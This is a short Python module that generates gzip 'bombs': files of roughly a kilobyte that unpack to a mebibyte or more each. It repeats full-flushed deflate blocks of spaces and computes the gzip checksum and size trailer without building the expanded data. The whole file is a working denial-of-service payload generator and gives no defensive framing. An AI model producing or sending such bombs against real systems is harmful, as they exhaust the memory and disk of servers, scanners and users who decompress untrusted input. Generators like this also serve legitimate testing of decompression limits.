"""A gzip bomb: a kilobyte for every mebibyte that it unpacks to. Pure.

Neither made nor held at its unpacked size: deflate's blocks can be repeated once the dictionary
was forgotten between them (RFC 1951, 3.2; zlib's Z_FULL_FLUSH).
"""

import struct
import zlib

_BLANKS = b" " * (1 << 20)
_HEADER = bytes((0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255))
"""RFC 1952, 2.3: deflate, no name, no moment, no matter which system."""


def bomb(head: bytes, blanks: int, tail: bytes) -> bytes:
    """The gzip of `head`, that many blanks, and `tail`."""
    rest = _BLANKS[: blanks % len(_BLANKS)]
    body = _block(head) + _block(_BLANKS) * (blanks // len(_BLANKS)) + _block(rest) + _last_block(tail)
    size = len(head) + blanks + len(tail)
    return _HEADER + body + struct.pack("<II", _checksum(head, blanks, tail), size & 0xFFFFFFFF)


def _block(data: bytes) -> bytes:
    packer = _packer()
    return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)


def _last_block(data: bytes) -> bytes:
    packer = _packer()
    return packer.compress(data) + packer.flush()


def _packer() -> "zlib._Compress":
    return zlib.compressobj(9, wbits=-zlib.MAX_WBITS)


def _checksum(head: bytes, blanks: int, tail: bytes) -> int:
    checksum = zlib.crc32(head)
    for start in range(0, blanks, len(_BLANKS)):
        checksum = zlib.crc32(_BLANKS[: blanks - start], checksum)
    return zlib.crc32(tail, checksum)
